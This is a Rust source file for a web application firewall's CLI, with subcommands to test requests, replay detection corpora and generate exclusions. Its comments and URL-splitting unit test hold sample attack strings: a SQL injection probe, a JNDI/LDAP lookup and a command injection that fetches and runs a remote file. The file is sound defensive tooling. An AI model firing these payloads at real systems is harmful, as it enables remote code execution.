//! `moat waf`: run requests through the attack-detection engine (`test`),
//! replay the evaluation corpora in-process (`eval`) and print the exclusion
//! for a block decision (`exclude`).

use std::path::{Path, PathBuf};
use std::process::ExitCode;

use clap::{Args, Subcommand};
use moat_waf::eval::Half;
use moat_waf::rawhttp::RawRequest;
use moat_waf::triage::{self, ExclusionRequest};
use moat_waf::{eval, Sensitivity, WafConfig, WafEngine};

/// Arguments of `moat waf`.
#[derive(Args)]
pub struct WafArgs {
    #[command(subcommand)]
    command: WafCommand,
}

#[derive(Subcommand)]
enum WafCommand {
    /// Inspect one request (a raw HTTP request file, or --url with --body) and print the findings.
    Test(TestArgs),
    /// Replay the blazehttp and gotestwaf corpora and print detection / false-positive tables.
    Eval(EvalArgs),
    /// Print the `waf.exclusions` entry that lets a blocked request through
    /// (from a stored event by id, or from the event's fields).
    Exclude(ExcludeArgs),
}

#[derive(Args)]
struct ExcludeArgs {
    /// Event id (the `event_id` of the block page); read from --db.
    #[arg(long)]
    event: Option<String>,
    /// Event database (the `events.store.path` of the config).
    #[arg(long, default_value = "moat-events.db")]
    db: PathBuf,
    /// Route of the request (when not reading an event).
    #[arg(long)]
    route: Option<String>,
    /// Request path (query is dropped).
    #[arg(long)]
    path: Option<String>,
    /// Detector name (`xss`, `sqli`, `virtual-patch`, ...).
    #[arg(long)]
    detector: Option<String>,
    /// Virtual-patch rule id.
    #[arg(long)]
    rule: Option<String>,
    /// Finding location (`form:comment`, `json:/a/b`, `header:user-agent`).
    #[arg(long)]
    location: Option<String>,
    /// Exclude on every path of the route instead of this path only.
    #[arg(long)]
    whole_route: bool,
}

#[derive(Args)]
struct CommonArgs {
    /// WAF configuration: a YAML file holding the `waf:` section (or a moat config with a `waf:` key).
    #[arg(long)]
    config: Option<PathBuf>,
}

#[derive(Args)]
struct TestArgs {
    /// Raw HTTP/1.x request file (`-` for stdin). Ignored when --url is given.
    file: Option<PathBuf>,
    /// Request URL or path (e.g. `/search?q=1' or '1'='1`).
    #[arg(long)]
    url: Option<String>,
    /// Method for --url.
    #[arg(long, default_value = "GET")]
    method: String,
    /// Request body for --url (`@file` reads a file).
    #[arg(long)]
    body: Option<String>,
    /// Extra header `Name: value` for --url (repeatable).
    #[arg(long = "header", short = 'H')]
    headers: Vec<String>,
    /// Route name used for per-route modes and exclusions.
    #[arg(long, default_value = "default")]
    route: String,
    /// Print findings as JSON.
    #[arg(long)]
    json: bool,
    #[command(flatten)]
    common: CommonArgs,
}

#[derive(Args)]
struct EvalArgs {
    /// Directory holding `blazehttp/` and `gotestwaf/` (default: the shared datasets).
    #[arg(long, env = "MOAT_DATASETS")]
    datasets: Option<PathBuf>,
    /// Only the blazehttp corpus.
    #[arg(long, conflicts_with = "gotestwaf_only")]
    blaze_only: bool,
    /// Only the gotestwaf corpus.
    #[arg(long)]
    gotestwaf_only: bool,
    /// Also list every miss and false positive with its strongest finding.
    #[arg(long)]
    mistakes: bool,
    /// Print the reports as JSON.
    #[arg(long)]
    json: bool,
    /// Replay only one fixed half of each corpus (A: develop, B: held back);
    /// both halves are reported by default.
    #[arg(long)]
    split: Option<Half>,
    /// Override the configured sensitivity (`low`, `balanced`, `strict`).
    #[arg(long, value_parser = parse_sensitivity)]
    sensitivity: Option<Sensitivity>,
    #[command(flatten)]
    common: CommonArgs,
}

fn parse_sensitivity(s: &str) -> Result<Sensitivity, String> {
    match s {
        "low" => Ok(Sensitivity::Low),
        "balanced" => Ok(Sensitivity::Balanced),
        "strict" => Ok(Sensitivity::Strict),
        o => Err(format!("`{o}`: expected low, balanced or strict")),
    }
}

#[derive(serde::Deserialize)]
struct Wrapped {
    waf: WafConfig,
}

fn load_config(path: Option<&Path>) -> Result<WafConfig, String> {
    let Some(path) = path else {
        return Ok(WafConfig::default());
    };
    let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))?;
    match moat_config::from_str::<WafConfig>(path, &text) {
        Ok(c) => Ok(c),
        Err(bare) => match moat_config::from_str::<serde_json::Value>(path, &text) {
            Ok(v) if v.get("waf").is_some() => {
                let w: serde_json::Value = serde_json::json!({ "waf": v["waf"].clone() });
                serde_json::from_value::<Wrapped>(w)
                    .map(|w| w.waf)
                    .map_err(|e| format!("{}: field `waf`: {e}", path.display()))
            }
            _ => Err(bare.to_string()),
        },
    }
}

/// Runs `moat waf`.
pub fn run(args: WafArgs) -> ExitCode {
    match args.command {
        WafCommand::Test(a) => test(a),
        WafCommand::Eval(a) => run_eval(a),
        WafCommand::Exclude(a) => exclude(a),
    }
}

/// Finds a stored WAF event by id (newest 10,000 WAF events).
fn stored_event(db: &Path, id: &str) -> Result<serde_json::Value, String> {
    let store = moat_events::EventStore::open_read_only(db).map_err(|e| e.to_string())?;
    let mut q = moat_events::EventQuery::default();
    let now = moat_events::now_ms();
    q.set("type", "waf", now).map_err(|e| e.to_string())?;
    q.set("limit", "10000", now).map_err(|e| e.to_string())?;
    let rows = store.query(&q).map_err(|e| e.to_string())?;
    rows.into_iter()
        .find(|r| {
            r.get("event")
                .and_then(|e| e.get("id"))
                .and_then(|v| v.as_str())
                == Some(id)
        })
        .ok_or_else(|| {
            format!(
                "{}: no WAF event `{id}` among the newest 10,000",
                db.display()
            )
        })
}

fn exclude(a: ExcludeArgs) -> ExitCode {
    let (req, comment) = match &a.event {
        Some(id) => match stored_event(&a.db, id) {
            Ok(rec) => match triage::request_from_record(&rec) {
                Some(r) => {
                    let frag = rec
                        .get("event")
                        .and_then(|e| e.get("details"))
                        .and_then(|d| d.get("fragment"))
                        .and_then(|f| f.as_str())
                        .unwrap_or("");
                    (r, format!("from event {id}; matched {frag:?}"))
                }
                None => {
                    eprintln!("moat waf exclude: event {id} is not a WAF finding");
                    return ExitCode::from(2);
                }
            },
            Err(e) => {
                eprintln!("moat waf exclude: {e}");
                return ExitCode::from(1);
            }
        },
        None => {
            let Some(detector) = a.detector.clone() else {
                eprintln!("moat waf exclude: give --event ID, or --detector with --location/--route/--path");
                return ExitCode::from(2);
            };
            (
                ExclusionRequest {
                    route: a.route.clone(),
                    path: a
                        .path
                        .as_deref()
                        .map(|p| p.split('?').next().unwrap_or("").to_string()),
                    detector,
                    rule: a.rule.clone(),
                    location: a.location.clone(),
                },
                "from the given fields".to_string(),
            )
        }
    };
    let scope = if a.whole_route {
        triage::Scope::Route
    } else {
        triage::Scope::Narrow
    };
    let e = triage::exclusion_for(&req, scope);
    let cfg = WafConfig {
        exclusions: vec![e.clone()],
        ..Default::default()
    };
    if let Err(err) = WafEngine::build(&cfg) {
        eprintln!("moat waf exclude: {err}");
        return ExitCode::from(2);
    }
    out!("{}", triage::render_snippet(&e, Some(&comment)));
    ExitCode::SUCCESS
}

fn build(common: &CommonArgs) -> Result<std::sync::Arc<WafEngine>, ExitCode> {
    let cfg = load_config(common.config.as_deref()).map_err(|e| {
        eprintln!("moat waf: {e}");
        ExitCode::from(2)
    })?;
    WafEngine::build(&cfg).map_err(|e| {
        eprintln!("moat waf: {e}");
        ExitCode::from(2)
    })
}

fn request_from_args(a: &TestArgs) -> Result<RawRequest, String> {
    if let Some(url) = &a.url {
        let (host, target) = split_url(url);
        let mut headers = vec![("Host".to_string(), host.into_bytes())];
        for h in &a.headers {
            let (n, v) = h
                .split_once(':')
                .ok_or_else(|| format!("--header `{h}`: expected `Name: value`"))?;
            headers.push((n.trim().to_string(), v.trim().as_bytes().to_vec()));
        }
        let body = match &a.body {
            Some(b) if b.starts_with('@') => {
                std::fs::read(&b[1..]).map_err(|e| format!("{}: {e}", &b[1..]))?
            }
            Some(b) => b.clone().into_bytes(),
            None => Vec::new(),
        };
        return Ok(RawRequest {
            method: a.method.clone(),
            target: target.into_bytes(),
            headers,
            body,
        });
    }
    let data = match a.file.as_deref() {
        None => return Err("give a raw request file (or `-` for stdin) or --url".into()),
        Some(p) if p == Path::new("-") => {
            let mut v = Vec::new();
            std::io::Read::read_to_end(&mut std::io::stdin(), &mut v).map_err(|e| e.to_string())?;
            v
        }
        Some(p) => std::fs::read(p).map_err(|e| format!("{}: {e}", p.display()))?,
    };
    RawRequest::parse(&data).map_err(|e| e.to_string())
}

/// `--url`'s host and request target. Only a URL that starts with a scheme is in
/// absolute form: a `://` later on belongs to the path or query
/// (`/cores?action=${jndi:ldap://x/a}`, `?cmd=wget+http://x/m`), and splitting there
/// would test a request nobody sent.
fn split_url(url: &str) -> (String, String) {
    let scheme_end = url.find("://").filter(|&p| {
        let scheme = &url.as_bytes()[..p];
        scheme.first().is_some_and(u8::is_ascii_alphabetic)
            && scheme
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
    });
    let Some(p) = scheme_end else {
        return ("localhost".to_string(), url.to_string());
    };
    let rest = &url[p + 3..];
    match rest.find(['/', '?']) {
        Some(q) if rest.as_bytes()[q] == b'?' => {
            (rest[..q].to_string(), format!("/{}", &rest[q..]))
        }
        Some(q) => (rest[..q].to_string(), rest[q..].to_string()),
        None => (rest.to_string(), "/".to_string()),
    }
}

fn test(a: TestArgs) -> ExitCode {
    let engine = match build(&a.common) {
        Ok(e) => e,
        Err(c) => return c,
    };
    let req = match request_from_args(&a) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("moat waf test: {e}");
            return ExitCode::from(2);
        }
    };
    let limits = moat_core::DecodeLimits {
        max_output: usize::try_from(engine.config().limits.max_decode_output).unwrap_or(usize::MAX),
        max_ratio: 100,
    };
    let (body, mut extra_limits) = match req.decoded_body(limits) {
        Ok(b) => (b, Vec::new()),
        Err(e) => (
            Vec::new(),
            vec![moat_waf::LimitHit::new(
                moat_waf::Limit::of_decode_error(&e),
                "body",
            )],
        ),
    };
    let max = usize::try_from(engine.config().limits.max_body_bytes).unwrap_or(usize::MAX);
    let view = req.view();
    let mut f = engine.inspect(
        &a.route,
        &view,
        Some(moat_waf::BodyView {
            data: &body[..body.len().min(max)],
            truncated: body.len() > max,
        }),
    );
    f.limits.append(&mut extra_limits);
    let blocked = engine.would_block(&f);
    if a.json {
        let v = serde_json::json!({
            "verdict": if blocked { "block" } else { "pass" },
            "findings": f.findings,
            "limits": f.limits,
        });
        outln!("{}", serde_json::to_string_pretty(&v).unwrap_or_default());
    } else {
        outln!(
            "verdict: {}",
            if blocked {
                format!("block ({})", engine.config().status)
            } else {
                "pass".to_string()
            }
        );
        for x in &f.findings {
            outln!(
                "  {:<15} {:>3}  {:<28} {:?}",
                x.attack.name(),
                x.confidence,
                x.location,
                x.fragment
            );
        }
        for hit in &f.limits {
            outln!(
                "  limit {} at {} (on_limit: {:?})",
                hit.limit,
                hit.location,
                engine.config().limits.on_limit
            );
        }
        if f.findings.is_empty() && f.limits.is_empty() {
            outln!("  no findings");
        }
    }
    if blocked {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    }
}

fn run_eval(a: EvalArgs) -> ExitCode {
    let mut cfg = match load_config(a.common.config.as_deref()) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("moat waf: {e}");
            return ExitCode::from(2);
        }
    };
    if let Some(s) = a.sensitivity {
        cfg.sensitivity = s;
    }
    let engine = match WafEngine::build(&cfg) {
        Ok(e) => e,
        Err(e) => {
            eprintln!("moat waf: {e}");
            return ExitCode::from(2);
        }
    };
    let dir = a.datasets.clone().unwrap_or_else(|| {
        PathBuf::from(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../../shared/datasets"
        ))
    });
    let mut out = serde_json::Map::new();
    if !a.gotestwaf_only {
        let p = dir.join("blazehttp/dev.jsonl.gz");
        match eval::blaze(&engine, &p, a.split) {
            Ok(r) => {
                if a.json {
                    out.insert(
                        "blazehttp".into(),
                        serde_json::to_value(&r).unwrap_or_default(),
                    );
                } else {
                    outln!("{}", eval::render_blaze(&r));
                    if a.mistakes {
                        for (id, cat, blocked, desc) in &r.mistakes {
                            outln!(
                                "{} {id} {cat} {desc}",
                                if *blocked { "FP  " } else { "MISS" }
                            );
                        }
                        outln!();
                    }
                }
            }
            Err(e) => {
                eprintln!("moat waf eval: {}: {e}", p.display());
                return ExitCode::from(2);
            }
        }
    }
    if !a.blaze_only {
        let p = dir.join("gotestwaf/testcases");
        match eval::gotestwaf(&engine, &p, a.split) {
            Ok(r) => {
                if a.json {
                    out.insert(
                        "gotestwaf".into(),
                        serde_json::to_value(&r).unwrap_or_default(),
                    );
                } else {
                    outln!("{}", eval::render_gotestwaf(&r));
                    if a.mistakes {
                        for (kind, ph, enc, payload, desc) in &r.mistakes {
                            outln!("{kind} [{ph}/{enc}] {payload:?} -> {desc}");
                        }
                    }
                }
            }
            Err(e) => {
                eprintln!("moat waf eval: {}: {e}", p.display());
                return ExitCode::from(2);
            }
        }
    }
    if a.json {
        outln!("{}", serde_json::Value::Object(out));
    }
    ExitCode::SUCCESS
}

#[cfg(test)]
mod tests {
    use super::split_url as split;

    #[test]
    fn urls_split_at_their_own_scheme_only() {
        let own = |h: &str, t: &str| (h.to_string(), t.to_string());
        assert_eq!(
            split("http://shop.example/a?b=1"),
            own("shop.example", "/a?b=1")
        );
        assert_eq!(split("https://shop.example"), own("shop.example", "/"));
        assert_eq!(
            split("http://shop.example?q=1"),
            own("shop.example", "/?q=1")
        );
        assert_eq!(split("/search?q=1"), own("localhost", "/search?q=1"));
        // a `://` inside the query or path is the request's, not an absolute URL
        assert_eq!(
            split("/solr/admin/cores?action=${jndi:ldap://x.example/a}"),
            own(
                "localhost",
                "/solr/admin/cores?action=${jndi:ldap://x.example/a}"
            )
        );
        assert_eq!(
            split("/setup.cgi?cmd=wget+http://1.2.3.4/m;sh+m"),
            own("localhost", "/setup.cgi?cmd=wget+http://1.2.3.4/m;sh+m")
        );
        assert_eq!(
            split("http://h.example/r?u=http://x/y"),
            own("h.example", "/r?u=http://x/y")
        );
    }
}
